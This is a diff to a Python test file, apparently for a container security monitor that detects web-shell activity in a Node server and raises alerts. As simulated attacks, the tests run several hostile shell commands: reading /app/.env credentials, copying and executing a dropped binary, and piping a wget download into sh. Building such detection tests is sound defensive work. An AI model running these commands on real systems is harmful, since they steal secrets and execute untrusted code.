@@ -125,6 +125,7 @@ def test_shell(tap):
         old = d.run(["node", "/app/server.js", "later", "5", "id; true"], name="was-there", image=RUN)
         with Guard(d) as g:
             d.run(["node", "/app/server.js", "sh", "id; sleep 4"], name="hacked", image=RUN)
+            d.run(["node", "/app/server.js", "sh", "cat /app/.env; sleep 4"], name="reads", image=RUN)
             bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; sleep 4"
             dropped = d.run(["node", "/app/server.js", "sh", bring], name="dropped", image=RUN)
             fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
@@ -139,7 +140,11 @@ def test_shell(tap):
                 d.run(cmd, name=name, image=RUN).wait()
             c = d.run(["node", "wait", "1000"], name="checked", image=RUN)
             tap.eq(c.exec("sh", "-c", "sh -c 'mkdir -p /opt; cp /bin/pvran /opt/x; /opt/x'"), "RAN", "docker exec of a shell brings what it likes")
+            g.wait_notice("exec.web-shell", "hacked")  # the Engine API knows the containers by now
+            tap.ok("uid" in c.exec("node", "/app/check.js", "sh", "id"), "a server's name by docker exec, or as a health check, starts a shell")
             old.wait()
+            n = g.wait_notice("exec.web-shell", "reads")
+            tap.ok(n and n["severity"] == "critical" and "that reads an .env file" in n["detail"]["what"], "one that reads credentials is critical", n)
             n = g.wait_notice("exec.web-shell", "hacked")
             tap.ok(n and n["action"] == "alerted" and "node start a shell: sh -c id" in n["detail"]["what"], "a server's shell is told", n)
             ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]} if n else {}
